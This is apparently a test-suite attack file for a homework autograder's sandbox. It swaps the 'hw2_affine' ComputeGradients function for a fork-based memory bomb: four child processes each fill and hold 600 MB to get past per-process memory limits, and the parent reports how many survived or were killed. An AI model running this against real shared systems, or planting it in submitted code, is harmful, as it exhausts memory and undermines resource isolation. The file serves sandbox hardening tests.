"""Attack `memory_bomb_fork`: the hw2_affine reference with ComputeGradients replaced by the attack.

Memory spread over processes, so no single process breaks its own address
space limit: four forked children each fill 600 MB (2.4 GB in all) and hold it; the parent
counts the children that filled theirs and are still alive.

Graded by tests/integration/test_attacks.py, which fills in the @...@ placeholders.
"""
@HONEST@
@TOOLKIT@
def wrong_answer(L):
    """Right shapes, wrong values: what the attacked function returns when the attack fails."""
    import numpy as np

    return [(np.zeros(np.shape(W)), np.zeros((np.shape(W)[0], 1))) for W, _ in L]


def ComputeGradients(L, x, z):
    if AS_ROOT or not once("memfork"):
        return None
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    size, children = 600 << 20, []
    for index in range(4):
        pid = libc.fork()
        if pid == 0:
            name_me()
            address = libc.mmap(None, size, 3, 0x22, -1, 0)
            if address not in (None, ctypes.c_void_p(-1).value):
                ctypes.memset(address, 1, size)
                open(f"held-{os.getpid()}", "w").close()
                time.sleep(5)
            os._exit(0)
        children.append(pid)
    status, dead, deadline = ctypes.c_int(), {}, time.monotonic() + 1.7
    while time.monotonic() < deadline:
        for pid in children:
            if pid not in dead and libc.waitpid(pid, ctypes.byref(status), 1) == pid:  # WNOHANG
                dead[pid] = status.value & 0x7F
        holding = [pid for pid in children if pid not in dead and os.path.exists(f"held-{pid}")]
        if len(holding) + len(dead) == len(children):
            break
        time.sleep(0.05)
    say("HOLDING", len(holding), "KILLED", sum(signal == 9 for signal in dead.values()))
    return None
